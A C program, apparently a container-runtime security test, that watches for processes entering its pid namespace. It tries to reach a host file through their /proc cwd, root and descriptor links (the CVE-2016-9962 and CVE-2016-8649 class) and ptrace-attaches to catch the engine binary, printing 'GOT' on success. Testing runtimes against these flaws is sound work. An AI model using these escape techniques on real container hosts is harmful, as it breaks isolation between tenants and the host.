/* Watches for processes that enter its pid namespace and tries to use them while they are not yet what they will be:
 * through their descriptors, working directory and root (CVE-2016-9962, CVE-2016-8649), and by ptrace. Arguments: the
 * path of a file of the host, device and inode of the engine's executable. Runs until killed; prints `GOT` and what. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *marker;

static void climb(const char *from)
{
	char path[600];
	int directory = open(from, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (directory < 0)
		return;
	snprintf(path, sizeof path, "../../../../../../../../../../..%s", marker);
	int file = openat(directory, path, O_RDONLY | O_CLOEXEC);
	if (file >= 0) {
		printf("GOT the file through %s\n", from);
		close(file);
	}
	/* A descriptor of the host's root needs no climbing. */
	file = openat(directory, marker + 1, O_RDONLY | O_CLOEXEC);
	if (file >= 0) {
		printf("GOT the file through %s\n", from);
		close(file);
	}
	close(directory);
}

int main(int argc, char **argv)
{
	char path[300];
	int announced = 0;

	if (argc != 4)
		return 2;
	marker = argv[1];
	dev_t device = strtoull(argv[2], NULL, 10);
	ino_t inode = strtoull(argv[3], NULL, 10);
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		if (!proc)
			return 1;
		while ((entry = readdir(proc)) != NULL) {
			int pid = atoi(entry->d_name);
			if (pid <= 1 || pid == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%d/cwd", pid);
			climb(path);
			snprintf(path, sizeof path, "/proc/%d/root", pid);
			climb(path);
			for (int fd = 3; fd < 24; fd++) {
				snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
				climb(path);
			}
			if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
				/* Stopped, it cannot become another program while we look. */
				struct stat seen;
				ptrace(PTRACE_INTERRUPT, pid, 0, 0);
				waitpid(pid, NULL, __WALL);
				snprintf(path, sizeof path, "/proc/%d/exe", pid);
				if (stat(path, &seen) == 0 && seen.st_dev == device && seen.st_ino == inode)
					printf("GOT the engine, %d\n", pid);
				ptrace(PTRACE_DETACH, pid, 0, 0);
			}
		}
		closedir(proc);
		if (!announced++)
			puts("watching");
	}
}
